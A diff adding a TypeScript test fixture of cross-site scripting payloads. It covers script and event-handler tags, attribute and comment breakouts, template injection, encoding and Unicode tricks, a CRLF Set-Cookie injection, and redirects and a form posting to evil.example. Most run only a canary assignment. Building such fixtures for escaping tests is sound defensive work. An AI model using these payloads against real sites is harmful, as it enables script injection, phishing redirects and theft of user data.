@@ -1,0 +1,83 @@
+// What a script would do if any of these were taken for more than text.
+const hit = 'window.canary=1'
+
+/** Texts that are markup, script or a way out of either, where a page does not escape them. Each has at most 255 characters. */
+export const payloads: readonly string[] = [
+  // elements
+  `<script>${hit}</script>`,
+  `<ScRiPt >${hit}</sCrIpT >`,
+  `<script/x>${hit}</script>`,
+  `<img src=x onerror=${hit}>`,
+  `<img/src=x/onerror=${hit}>`,
+  `<image src=x onerror=${hit}>`,
+  `<svg onload=${hit}>`,
+  `<svg><script>${hit}</script></svg>`,
+  `<svg><style><img src=x onerror=${hit}></style></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
+  `<details open ontoggle=${hit}>x</details>`,
+  `<input autofocus onfocus=${hit}>`,
+  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${hit}"></iframe>`,
+  `<object data="data:text/html,<script>parent.${hit}</script>"></object>`,
+  `<body onload=${hit}>`,
+  `<video><source onerror=${hit} src=x></video>`,
+  `<marquee onstart=${hit}>x</marquee>`,
+  `<style>@keyframes k{}*{animation:k 1ms}</style><b onanimationstart=${hit}>x</b>`,
+  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<form action="https://evil.example/"><button>Go on</button></form>`,
+  // out of an attribute
+  `"><script>${hit}</script>`,
+  `'><script>${hit}</script>`,
+  `" autofocus onfocus="${hit}`,
+  `' autofocus onfocus='${hit}`,
+  `x onmouseover=${hit} onfocus=${hit} autofocus`,
+  `" onerror="${hit}" src="x`,
+  `\`><script>${hit}</script>`,
+  // out of another element, a comment or a script
+  `</title><script>${hit}</script>`,
+  `</style><script>${hit}</script>`,
+  `</textarea></noscript></template></select><script>${hit}</script>`,
+  `</script><script>${hit}</script>`,
+  `--><script>${hit}</script><!--`,
+  `--!><img src=x onerror=${hit}>`,
+  `]]><script>${hit}</script>`,
+  `";${hit};//`,
+  `';${hit};//`,
+  `\\";${hit};//`,
+  `\`;${hit};//`,
+  // what templates, formats and decoders make of it
+  `\${${hit}}`,
+  `#{${hit}} {{${hit}}} <%= ${hit} %> {%raw%}`,
+  `{{constructor.constructor('${hit}')()}}`,
+  `$& $1 $\` $' $$ <script>${hit}</script>`,
+  `%s %d %1$s %3Cscript%3E${hit}%3C/script%3E`,
+  `&lt;script&gt;${hit}&lt;/script&gt;`,
+  `&#60;script&#62;${hit}&#60;/script&#62; &lt &amp`,
+  `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
+  `javascript:${hit}`,
+  // characters that end lines, hide, or turn text around
+  `\u2028<script>${hit}</script>\u2029`,
+  `\u2028${hit}//`,
+  `\ufeff<script>${hit}</script>`,
+  `\u202e<script>${hit}</script>\u202c`,
+  `<\u200bscript>${hit}</\u200bscript>`,
+  `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`,
+  `<img src=x\tonerror=${hit}>`,
+  `<img\fsrc=x\fonerror=${hit}>`,
+  `<script>\n${hit}\n</script>`,
+  `x\r\nSet-Cookie: canary=1\r\n\r\n<script>${hit}</script>`,
+  `\u{1d4d0} \u{1f469}\u200d\u{1f4bb} <script>${hit}</script>`,
+]
+
+/** Addresses that would break out of an attribute or a script, were they put there as they are. */
+export const payloadUrls: readonly string[] = [
+  `https://example.com/"onmouseover="${hit}`,
+  `https://example.com/?q="><script>${hit}</script>`,
+  `https://example.com/?q='><script>${hit}</script>`,
+  `https://example.com/#'onfocus='${hit}'autofocus='`,
+  `https://example.com/#"></a><img/src=x/onerror=${hit}>`,
+  `https://example.com/?a=1&lt;script&gt;${hit}&amp;copy=2`,
+  `https://example.com/\${${hit}}`,
+  `https://example.com/?x=javascript:${hit}`,
+]
